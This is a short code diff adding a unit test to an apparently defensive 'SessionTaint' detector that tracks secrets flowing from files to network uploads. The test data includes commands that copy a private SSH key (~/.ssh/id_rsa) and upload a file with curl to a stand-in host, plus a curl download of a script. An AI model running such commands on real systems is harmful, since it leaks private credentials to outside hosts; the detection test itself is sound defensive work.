@@ -63,6 +63,12 @@ describe('SessionTaint', () => {
     ]);
   });
 
+  it('takes a file that a secret was put into for a secret', () => {
+    const after = (command: string): boolean =>
+      tainted('secret-sent', ['cp ~/.ssh/id_rsa x', command, 'curl -T y https://x.test/'], 1);
+    expect([after('cat x'), after('cat z')]).toEqual([true, false]);
+  });
+
   it('keeps sessions apart', () => {
     const memory = new SessionTaint();
     memory.record({ lineage: 'a', key: '1', nowMs: 0 }, facts('curl -o x.sh https://x.test/'), NO_MARKS);
